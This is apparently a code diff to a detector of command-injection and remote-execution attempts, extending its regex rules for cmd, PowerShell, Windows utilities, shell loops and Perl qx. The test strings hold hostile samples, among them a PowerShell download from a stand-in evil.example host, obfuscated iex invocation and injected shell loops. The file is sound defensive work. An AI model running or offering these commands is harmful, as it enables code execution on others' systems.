@@ -21,14 +21,14 @@ patterns! {
         ["Invoke-WebRequest http://evil.example/x.ps1", "powershell -enc AAAA", "powershell C:\\x.exe"],
         ["the powershell book", "a get-together"];
     CMD: "rce-cmd", STRONG, "cmd is run",
-        literals ["cmd.exe", "cmd /", "cmd/", "cmd  /", "comspec", "command.com"], r"\b(?:cmd(?:\.exe)?\s*/[a-z]\b\s*\S|%comspec%|command\.com\b)", ["cmd.exe /c dir"], ["cmd key"];
+        literals ["cmd.exe", "cmd /", "cmd/", "cmd  /", "comspec", "command.com", ":~"], r"(?:\b(?:cmd(?:\.exe)?\s*/[a-z]\b\s*\S|command\.com\b)|%comspec%|%\w{2,24}:~-?\d)", ["cmd.exe /c dir", "%COMSPEC% /c dir", "%PATHEXT:~0,1%"], ["cmd key", "100%: ~5%"];
     POWERSHELL_NET: "rce-powershell-net", STRONG, "classes of .NET in PowerShell",
-        literals ["net.webclient", ".download", "frombase64string", "]::"],
-        r"(?:net\.webclient|\.download(?:string|file|data)\s*\(|frombase64string\s*\(|\[(?:system\.)?(?:convert|text\.encoding|io\.file|reflection\.assembly|diagnostics\.process)\]::)",
-        ["(New-Object Net.WebClient).DownloadString('x')"], ["download file"];
+        literals ["net.webclient", ".download", "frombase64string", "]::", "process.start", "system.diagnostics.", "system.io.file", "invokecommand", "&('", "& ('", "&(\"", "& (\"", "&(gcm", "& (gcm", "&(gal", "&(get-", "& (get-"],
+        r"(?:\b(?:diagnostics\.)?process\.start\s*\(|\bsystem\.(?:diagnostics\.process|io\.file\.\w)|\$executioncontext\.invokecommand|&\s*\(\s*(?:['\x22][\w-]*['\x22]\s*\+|(?:gcm|gal|get-(?:command|alias))\s)|net\.webclient|\.download(?:string|file|data)\s*\(|frombase64string\s*\(|\[(?:system\.)?(?:convert|text\.encoding|io\.file|reflection\.assembly|diagnostics\.process)\]::)",
+        ["(New-Object Net.WebClient).DownloadString('x')", "Process.Start(\"cmd.exe\")", "&('i'+'ex') 'x'"], ["download file", "the process. Start (now)", "R&('D')"];
     SWITCH: "rce-windows-switch", STRONG, "a program of Windows with a switch",
-        literals ["bcdboot", "bcdedit", "regedit", "certutil", "bitsadmin", "schtasks", "wmic", "icacls", "cacls", "rundll32", "regsvr32", "mshta", "cscript", "wscript", "forfiles", "vssadmin", "tasklist", "taskkill", "ipconfig", "systeminfo", "attrib", "xcopy", "robocopy", "takeown", "diskpart", "fsutil", "nltest", "whoami", "netsh", "msiexec", "findstr", "reg /", "net /", "net1 /", "sc /", "at /", "expand /"],
-        r"(?:^|[;&|\s(])(?:bcdboot|bcdedit|regedit|reg|certutil|bitsadmin|schtasks|wmic|net|sc|at|icacls|cacls|rundll32|regsvr32|mshta|cscript|wscript|forfiles|vssadmin|tasklist|taskkill|ipconfig|systeminfo|net1|attrib|xcopy|robocopy|takeown|diskpart|fsutil|nltest|whoami|netsh|msiexec|expand|findstr)(?:\.exe)?\s*/[a-z?]{1,12}\b(?:[^/]|$)",
+        literals ["bcdboot", "bcdedit", "regedit", "certutil", "bitsadmin", "schtasks", "wmic", "icacls", "cacls", "rundll32", "regsvr32", "mshta", "cscript", "wscript", "forfiles", "vssadmin", "tasklist", "taskkill", "ipconfig", "systeminfo", "attrib", "xcopy", "robocopy", "takeown", "diskpart", "fsutil", "nltest", "whoami", "netsh", "msiexec", "findstr", "reg /", "timeout /", "net /", "net1 /", "sc /", "at /", "expand /"],
+        r"(?:^|[;&|\s(])(?:bcdboot|bcdedit|regedit|reg|certutil|bitsadmin|schtasks|wmic|net|sc|at|icacls|cacls|rundll32|regsvr32|mshta|cscript|wscript|forfiles|vssadmin|tasklist|taskkill|ipconfig|systeminfo|net1|attrib|xcopy|robocopy|takeown|diskpart|fsutil|nltest|whoami|netsh|msiexec|expand|findstr|timeout)(?:\.exe)?\s*/[a-z?]{1,12}\b(?:[^/]|$)",
         ["bcdboot/r file.txt", "; regedit /E c:\\x.reg HKEY"], ["at/near the station"];
     NET: "rce-net", STRONG, "accounts and shares of Windows",
         literals ["net user", "net localgroup", "net view", "net use", "net share", "net group", "net accounts", "net1 user"],
@@ -61,4 +61,11 @@ patterns! {
         literals [" -wrapper", "--exec", " -exec", "--use-askpass", "proxycommand", "--upload-pack", "--receive-pack", " -ex "],
         r"(?:\s-wrapper\s+\S+,|--exec(?:ute)?[= ]\S|\s-exec\s+\S+|--use-askpass=|proxycommand\s*=|--(?:upload|receive)-pack=|\s-ex\s+\\?!)",
         ["x --exec=`id`", "c99 -wrapper sh,-c,id ."], ["the co-executive"];
+    CONTROL: "rce-shell-control", STRONG, "a loop or a condition of a shell",
+        literals ["; then", ";then", "; do ", ";do ", ";do\n", "esac", "\ndo ", "\nthen"],
+        r"(?:\bif\s+[^\r\n;]{1,80}[;\n]\s*then\s[^\r\n]{0,200}[;\n]\s*fi\b|\bif\s+\[{1,2}\s[^\r\n;]{1,80}[;\n]\s*then\b|\b(?:while|until|for)\s[^\r\n;]{1,80}[;\n]\s*do\s+\S[^;\n]*[;\n]\s*done\b|\bcase\s+\S{1,40}\s+in\s.{1,80};;\s*esac\b)",
+        [";if [ 1 ];then id;fi", ";while true;do id;done", "for i in 1 2; do id; done", ";case a in a) id;;esac"],
+        ["if you like it; then buy it", "while you wait; do it", "in case it rains in May"];
+    PERL_RUN: "rce-perl-run", STRONG, "a program run by Perl",
+        literals ["qx/", "qx{", "qx(", "qx|", "qx!", "qx'"], r"(?:^|[\s;=(,])qx[/{(|!'][^\r\n]{1,80}[/})|!']", ["qx/id/", "x;qx{ls -la}"], ["qx/", "fqx(1)"];
 }
